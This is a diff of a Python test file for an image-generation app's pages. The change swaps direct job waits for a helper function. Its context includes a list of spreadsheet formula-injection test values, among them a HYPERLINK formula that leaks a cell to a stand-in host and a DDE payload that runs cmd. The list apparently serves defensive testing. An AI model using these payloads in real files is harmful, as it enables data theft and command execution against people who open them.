@@ -23,6 +23,7 @@ from core.tasks import pnginfo, tables
 from core.tasks.images import decode_image
 from core.tasks.jobs import Job, JobState
 from core.tasks.sd_settings import GenerationSettings
+from helpers import wait_for_generation_runs
 
 HOME = str(Path(__file__).resolve().parent.parent / "Home.py")
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|'/c calc'!A0", "-2+3", "\t=1", "\r=1"]
@@ -178,7 +179,7 @@ def test_a_prompt_and_a_typed_model_id_show_literally_on_the_generation_page(app
     for name, value in {"width": 64, "height": 64, "steps": 2, "seed": 1}.items():
         at.number_input(key=f"generate:{name}").set_value(value)
     at.run().button(key="generate:start").click().run()
-    assert at.session_state["generate:run"].job.wait(60)
+    wait_for_generation_runs(at, 60)
     at.run()
     caption = next(text for text in markdown_sources(at) if "“" in text)
     assert caption.startswith(f"“{literal(HOSTILE_TEXT)}” · not: “{literal('__under__ `code`')}”")
@@ -277,7 +278,7 @@ def test_the_generation_pages_stand_in_png_says_so_in_its_name_and_text(app_env,
     for name, value in {"width": 64, "height": 64, "steps": 2, "seed": 5}.items():
         at.number_input(key=f"generate:{name}").set_value(value)
     at.run().button(key="generate:start").click().run()
-    assert at.session_state["generate:run"].job.wait(60)
+    wait_for_generation_runs(at, 60)
     at.run()
     png = downloads["run001-seed5-standin-random-weights.png"]()
     assert "Stand-in: random weights" in pnginfo.read_parameters(png)
